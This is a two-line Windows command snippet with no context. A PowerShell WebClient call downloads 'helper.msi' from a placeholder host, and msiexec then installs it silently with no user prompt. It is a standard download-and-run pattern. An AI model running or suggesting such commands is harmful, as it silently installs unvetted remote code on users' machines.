(New-Object Net.WebClient).DownloadFile("https://files.statbeacon.invalid/win/helper.msi", "helper.msi")
msiexec /i helper.msi /qn
